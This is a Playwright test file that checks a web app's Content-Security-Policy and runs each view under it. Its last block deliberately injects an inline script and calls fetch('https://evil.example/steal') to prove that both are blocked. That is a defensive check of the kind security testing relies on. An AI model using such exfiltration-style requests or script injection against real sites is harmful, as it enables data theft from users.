import { CSP_HEADER, CSP_META } from '../src/csp';
import { readyPredictions, waitForModel } from './app-helpers';
import { expect, test } from './fixtures';

test('the built app carries its Content-Security-Policy and every view runs under it without a violation', async ({
  page,
  csp,
}, testInfo) => {
  test.skip(testInfo.project.name !== 'webgpu-unavailable', 'the policy does not depend on the backend: checked once');
  const response = await page.goto('/');
  expect(response!.headers()['content-security-policy']).toBe(CSP_HEADER);
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', CSP_META);
  // Before any script or style: a policy applies only to what comes after its <meta>.
  expect(await page.evaluate(() => document.head.firstElementChild?.getAttribute('http-equiv'))).toBe(
    'Content-Security-Policy',
  );
  const directives = new Map(CSP_META.split('; ').map((d) => [d.split(' ')[0], d.split(' ').slice(1)]));
  expect(directives.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
  expect(directives.get('connect-src')).toEqual(["'self'"]);
  const bench = await (await page.request.get('/bench.html')).text();
  expect(bench.replaceAll('&#39;', "'")).toContain(`<meta http-equiv="Content-Security-Policy" content="${CSP_META}">`);

  // Every view (wasm, workers, Vega charts and their tooltips) runs; the fixture fails the test on any violation.
  await waitForModel(page);
  await readyPredictions(page);
  await page.getByTestId('tab-type').click();
  await page.getByTestId('tab-generate').click();
  await page.getByTestId('generate-start').click();
  await expect(page.getByTestId('generate-status')).toHaveAttribute('data-status', /done|stopped/, {
    timeout: 120_000,
  });
  await expect(page.locator('[data-testid=generate-timeline][data-status=ready]')).toHaveCount(1);
  await page.getByTestId('tab-evaluation').click();
  await expect(page.getByTestId('eval-table').or(page.getByTestId('eval-empty'))).toBeVisible();
  await page.getByTestId('tab-scaling').click();
  await expect(
    page.locator('.vega-chart[data-status=ready]').or(page.getByTestId('scaling-empty')).first(),
  ).toBeVisible();
  await page.getByTestId('tab-finetune').click();
  await page.getByTestId('finetune-bundled-fr').click();
  await expect(page.getByTestId('finetune-summary')).toBeVisible({ timeout: 60_000 });
  expect(csp.violations).toEqual([]);

  // The policy is enforced: an injected inline script does not run, a fetch to another origin is refused.
  csp.allow(/inline script|script-src(-elem)? blocked inline|evil\.example/);
  const ran = await page.evaluate(() => {
    const s = document.createElement('script');
    s.textContent = 'window.__injected = true';
    document.body.append(s);
    return (window as unknown as { __injected?: boolean }).__injected === true;
  });
  expect(ran).toBe(false);
  const fetched = await page.evaluate(() =>
    fetch('https://evil.example/steal').then(
      () => 'fetched',
      (e: Error) => e.name,
    ),
  );
  expect(fetched).toBe('TypeError');
  await expect.poll(() => csp.violations.join('\n')).toMatch(/script-src(-elem)? blocked inline/);
  await expect.poll(() => csp.violations.join('\n')).toMatch(/connect-src blocked https:\/\/evil\.example/);
});
